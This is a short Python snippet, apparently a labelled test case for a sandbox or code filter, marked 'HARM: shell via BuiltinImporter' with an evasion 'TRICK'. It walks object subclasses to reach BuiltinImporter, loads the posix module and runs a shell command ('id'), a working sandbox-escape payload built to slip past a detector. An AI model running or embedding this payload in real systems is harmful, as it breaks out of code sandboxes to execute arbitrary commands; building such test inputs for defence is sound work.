# HARM: shell via BuiltinImporter | TRICK: keyword argument call walk(cls=object) instead of positional
class Base: pass
class A(Base): pass
def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)
for k in walk(cls=object):
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
